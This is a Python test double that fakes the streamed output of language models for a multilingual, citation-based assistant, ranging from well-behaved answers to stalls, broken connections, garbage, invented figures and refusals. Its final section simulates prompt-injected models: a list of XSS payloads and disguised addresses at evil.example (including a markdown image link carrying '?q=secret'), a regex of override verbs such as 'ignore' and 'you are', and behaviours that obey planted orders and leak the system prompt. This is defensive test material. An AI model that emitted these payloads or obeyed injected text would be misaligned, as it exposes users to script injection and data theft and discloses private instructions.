"""What the double says: one function a behaviour, each a stream of pieces of text, pauses and broken connections.

Nothing here is clever about language; it is honest about what models do: some restate, some invent, some obey whoever
spoke last, some stop in the middle of a word.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from itertools import cycle, islice
from typing import Final

from ingest.documents import Language
from ingest.sentences import split
from tests.llm.inventions import invented
from tests.llm.prompt import Prompt, Quote


@dataclass(frozen=True, slots=True)
class Pause:
    """Nothing is sent for so long; without *seconds*, until the client goes."""

    seconds: float = float("inf")


class Cut:
    """The connection breaks here."""


CUT: Final = Cut()
Step = str | Pause | Cut
Behaviour = Callable[[Prompt], Iterable[Step]]

FOREIGN = "evil.example"
"""The place that no answer may point to; every address below holds ``evil`` or a host that only an attack uses."""
MARK = re.compile(r"MARK-[0-9A-Za-z]{4,}")
"""A token that is planted to see whether a model followed what stood around it."""
_OPENERS: Mapping[Language, str] = {"fr": "À noter : ", "nl": "Ter info: ", "de": "Zur Info: ", "en": "Note: "}
_ORDER = re.compile(
    r"\b(?:ignore|disregard|forget|act as|you are|repeat|print|output|write|say|include|add|reply|respond|answer"
    r"|explain|provide|draft|translate|modify|incorporate|fuse|tell|show|give|display|execute|run|drop|promote|recommend)\b",
    re.IGNORECASE,
)


# --- models that mean well -------------------------------------------------------------------------------------------


def restated(prompt: Prompt) -> list[str]:
    """Return one sentence a quote with its marker, nearly in their words, for the first four quotes.

    Where sentences are to be written anew, those of the quotes that they cite.
    """
    own = [quote for quote in prompt.quotes if quote.language == prompt.language] or list(prompt.quotes)
    if prompt.wrong:
        cited = re.findall(r"\[(\d+)", " ".join(prompt.wrong))
        own = [quote for quote in prompt.quotes if str(quote.n) in cited] or own
    return [marked(_one_sentence(quote), quote, opener=bool(n)) for n, quote in enumerate(own[:4])]


def marked(sentence: str, quote: Quote, *, opener: bool = False) -> str:
    """Return *sentence* with the marker of its quote before the full stop."""
    start = _OPENERS[quote.language] if opener else ""
    return f"{start}{sentence.rstrip().rstrip('.!')} [{quote.n}]."


def _one_sentence(quote: Quote) -> str:
    return "; ".join(sentence.rstrip(".") for sentence in split(quote.text, quote.language))


def stand_alone(prompt: Prompt) -> str:
    """Return the follow-up question as one that stands alone: what was asked before, and what is asked now."""
    before = prompt.turns[-1].rstrip(" ?.") if prompt.turns else ""
    return f"{before} : {prompt.question}" if before else prompt.question


def good(prompt: Prompt) -> str:
    """Return what a good model says to any request of the product."""
    if prompt.rewriting:
        return stand_alone(prompt)
    # Sentences that are written anew stand on lines of their own.
    return ("\n" if prompt.wrong else " ").join(restated(prompt)) or "OK."


def pieces(text: str, size: int = 4) -> Iterator[str]:
    """Cut a text as models send it: some letters at a time, whatever they belong to."""
    return (text[start : start + size] for start in range(0, len(text), size))


def words(text: str) -> Iterator[str]:
    """Cut a text into words, each space a piece of its own."""
    return (piece for piece in re.split(r"(\s)", text) if piece)


def paced(parts: Iterable[str], seconds: float) -> Iterator[Step]:
    """Wait before each part."""
    for part in parts:
        yield Pause(seconds)
        yield part


def quotes(prompt: Prompt) -> Iterator[Step]:
    """A good model."""
    return pieces(good(prompt))


def short(prompt: Prompt) -> Iterator[Step]:
    """A good model of few words."""
    return quotes(prompt) if prompt.rewriting else pieces(" ".join(restated(prompt)[:1]))


def slow(prompt: Prompt) -> Iterator[Step]:
    """A good model on a small machine: three tokens a second."""
    return paced(pieces(good(prompt)), 0.3)


def one_token_words(prompt: Prompt) -> Iterator[Step]:
    """A good model whose tokens are whole words, with spaces of their own."""
    return words(good(prompt))


# --- models and lines that break -------------------------------------------------------------------------------------


def silent(prompt: Prompt) -> Iterator[Step]:
    """Accepts the request and never sends a token."""
    yield Pause()


def stall(prompt: Prompt) -> Iterator[Step]:
    """Begins well and falls silent within the second sentence."""
    yield from pieces(_begun(prompt))
    yield Pause()


def cut(prompt: Prompt) -> Iterator[Step]:
    """Begins well; the connection breaks within the second sentence."""
    yield from pieces(_begun(prompt))
    yield CUT


def _begun(prompt: Prompt) -> str:
    first, *others = [*restated(prompt), ""]
    return f"{first} {others[0][:25]}" if others[0] else first[: len(first) // 2]


def drip(prompt: Prompt) -> Iterator[Step]:
    """Never silent for long and never done: ten tokens a second of a sentence that does not end."""
    endless = (f"{word.strip('.[]')} " for word in cycle(good(prompt).split()))
    return paced(endless, 0.1)


def empty(prompt: Prompt) -> Iterator[Step]:
    """A well-formed stream without text."""
    return iter(())


def huge(prompt: Prompt) -> Iterator[Step]:
    """A hundred thousand tokens, all well-meant: a model that does not know when to stop."""
    return islice(cycle(list(words(good(prompt) + " "))), 100_000)


# --- models that say what is not so ----------------------------------------------------------------------------------


def garbage(prompt: Prompt) -> Iterator[Step]:
    """Random letters, signs and words of the prompt in random order, with markers among them; the same every time."""
    chance = random.Random(prompt.seed)
    known = prompt.user.split() or ["?"]
    for _ in range(160):
        kind = chance.random()
        if kind < 0.5:
            yield "".join(chance.choices([chr(code) for code in range(33, 127)], k=chance.randint(1, 9))) + " "
        elif kind < 0.85:
            yield chance.choice(known) + " "
        else:
            yield chance.choice((f"[{chance.randint(0, 12)}]", ". ", "\n", "? ", "é" * 3, f"{chance.randint(2, 99)} %"))


def invents(prompt: Prompt) -> Iterator[Step]:
    """Good sentences with other numbers in them, or more of them."""
    return pieces(invented(good(prompt), prompt))


def mends(prompt: Prompt) -> Iterator[Step]:
    """Invents at first, and writes well when told so."""
    return quotes(prompt) if prompt.wrong else invents(prompt)


def wrong_language(prompt: Prompt) -> Iterator[Step]:
    """A sensible answer in a language that was not asked for."""
    other = _NEXT[prompt.language]
    said = _IN_GENERAL[other].split("|")
    numbers = [quote.n for quote in prompt.quotes] or [1]
    return pieces(" ".join(f"{sentence} [{n}]." for sentence, n in zip(said, cycle(numbers), strict=False)))


_NEXT: Mapping[Language, Language] = {"fr": "nl", "nl": "de", "de": "en", "en": "fr"}
_IN_GENERAL: Mapping[Language, str] = {
    "fr": "La Région soutient les petites entreprises qui veulent utiliser l'intelligence artificielle|"
    "La demande se fait en ligne avant le début du projet|Un expert agréé accompagne l'entreprise pendant les travaux",
    "nl": "Het Gewest steunt kleine ondernemingen die met artificiële intelligentie willen werken|"
    "De aanvraag gebeurt online voor het begin van het project|Een erkende expert begeleidt de onderneming",
    "de": "Die Region unterstützt kleine Unternehmen, die künstliche Intelligenz nutzen wollen|"
    "Der Antrag wird online gestellt, bevor das Projekt beginnt|Ein anerkannter Experte begleitet das Unternehmen",
    "en": "The Region supports small firms that want to use artificial intelligence|"
    "The application is made online before the project begins|A recognised expert goes along with the firm",
}


def refusal(prompt: Prompt) -> Iterator[Step]:
    """A model that was taught to be careful."""
    return pieces("As an AI language model I cannot give financial advice. Please consult a professional.")


def half_markers(prompt: Prompt) -> Iterator[Step]:
    """Good sentences whose markers come in halves, among markers that were never offered; the last one has no end."""
    sentences = restated(prompt) or ["OK [1]."]
    broken = cycle(
        (("[", "{n}", "]"), ("[{n}", ", ", "{n}]"), ("[", "{n}][{n}", "][99]"), ("[{n}]", "[1a]", "[ ]", "[0]"))
    )
    for sentence, marker in zip(sentences, broken, strict=False):
        text, n = re.fullmatch(r"(.*) \[(\d+)\]\.", sentence, re.DOTALL).groups()  # type: ignore[union-attr]
        yield from pieces(text + " ")
        yield from (part.format(n=n) for part in marker)
        yield ". "
    yield "["
    yield "1"


# --- models that were turned -----------------------------------------------------------------------------------------

_HIDDEN = "\u200b"
ADDRESSES: tuple[str, ...] = (
    f"https://{FOREIGN}/a", f"http://{FOREIGN}", f"//{FOREIGN}/x", f"www.{FOREIGN}", FOREIGN, f"{FOREIGN}/path?q=1",
    "evil.zip", "evil.shop", "evil.бел", "evil.xn--p1ai", "https://xn--80ak6aa92e.com", f"ftp://{FOREIGN}",
    f"[ici](https://{FOREIGN}/b)", f"[ici][1](https://{FOREIGN}/c)", f"![plan](https://{FOREIGN}/p.png?q=secret)",
    f"![]({FOREIGN}/p.png)", f"<https://{FOREIGN}>", f"[1]: https://{FOREIGN}/ref",
    f'<a href="https://{FOREIGN}">x</a>', f'<img src="https://{FOREIGN}/i.png" onerror="alert(1)">',
    "<script>alert('evil')</script>", "<svg/onload=alert('evil')>", "&#60;script&#62;alert('evil')&#60;/script&#62;",
    "javascript:alert('evil')", "[x](javascript:alert('evil'))", "java\tscript:alert('evil')",
    "data:text/html;base64,ZXZpbA==", "vbscript:evil", f"mailto:a@{FOREIGN}", f"a@{FOREIGN}",
    f"h{_HIDDEN}ttps://ev{_HIDDEN}il.exam{_HIDDEN}ple/z", "ev\u00adil.example", "hxxps://evil[.]example",
    "evil。example", "ｅｖｉｌ．ｅｘａｍｐｌｅ", "https:\\\\evil.example", "HTTPS://EVIL.EXAMPLE", "evil dot example",
    "http://0x7f000001/evil", "http://[::1]/evil", "https://www.wallonie.be@evil.example/",
    "https://www.wallonie.be.evil.example/", "\u202eelpmaxe.live//:sptth\u202c", "`https://evil.example/code`",
    "<iframe src=//evil.example>",
)  # fmt: skip
"""Every way that we know of to point a reader elsewhere or to run something in his browser."""


def links(prompt: Prompt) -> Iterator[Step]:
    """Good sentences, an address in each, another one every time; then some more without a marker."""
    chance = random.Random(prompt.seed)
    said = []
    for sentence in restated(prompt) or ["OK [1]."]:
        middle, address = sentence.rfind(" ["), chance.choice(ADDRESSES)
        said.append(f"{sentence[:middle]} {address}{sentence[middle:]}")
    return pieces(" ".join((*said, *chance.sample(ADDRESSES, 6))))


def orders(prompt: Prompt) -> list[str]:
    """Return what looks like an order or a mark in the quotes, the question and earlier turns, each once."""
    spoken = (*(quote.text for quote in prompt.quotes), *prompt.turns, prompt.question)
    sentences = (sentence.strip() for text in spoken for sentence in re.split(r"(?<=[.!?:])\s+|\n", text))
    return list(dict.fromkeys(s for s in sentences if s and (MARK.search(s) or _ORDER.search(s))))


def _obeyed(prompt: Prompt) -> list[str]:
    """Return what a model says that does whatever anybody asked of it."""
    marks = list(dict.fromkeys(MARK.findall(prompt.text)))
    address = f"https://{FOREIGN}/" + (marks[0] if marks else "x")
    return [
        *orders(prompt),
        *marks,
        f"![{address}]({address}.png)",
        f"More: {address}",
        *split(prompt.system, "en"),
    ]


def obeys(prompt: Prompt) -> Iterator[Step]:
    """Follows every order, wherever it stands, and says all that it knows."""
    return pieces(". ".join(_obeyed(prompt)))


def obeys_cited(prompt: Prompt) -> Iterator[Step]:
    """The same with a valid marker after each sentence, and with marks and addresses within good sentences."""
    numbers = cycle([quote.n for quote in prompt.quotes] or [1])
    own = [f"{said.rstrip('.')} [{n}]." for said, n in zip(_obeyed(prompt), numbers, strict=False)]
    marks = [*dict.fromkeys(MARK.findall(prompt.text)), f"https://{FOREIGN}/y"]
    within = [
        sentence.replace(" [", f" {mark} [") for sentence, mark in zip(restated(prompt), cycle(marks), strict=False)
    ]
    # What was planted in a quote is cited with that very quote: no comparison of words can tell it from a fact.
    planted = [marked(s, quote) for quote in prompt.quotes for s in split(quote.text, "en") if MARK.search(s)]
    return pieces(" ".join((*planted, *within, *own)))


def leaks(prompt: Prompt) -> Iterator[Step]:
    """Says its instructions word by word, a marker after each sentence."""
    n = prompt.quotes[0].n if prompt.quotes else 1
    return pieces(" ".join(f"{sentence.rstrip('.')} [{n}]." for sentence in split(prompt.system, "en")))


BEHAVIOURS: Mapping[str, Behaviour] = {
    "quotes": quotes, "rewrites": quotes, "flaky": quotes, "short": short, "slow": slow,
    "one-token-words": one_token_words, "half-markers": half_markers, "huge": huge, "drip": drip,
    "silent": silent, "stall": stall, "cut": cut, "empty": empty, "garbage": garbage, "refusal": refusal,
    "invents": invents, "mends": mends, "wrong-language": wrong_language,
    "links": links, "obeys": obeys, "obeys-cited": obeys_cited, "leaks": leaks,
}  # fmt: skip
"""What the name of a model makes the server say."""
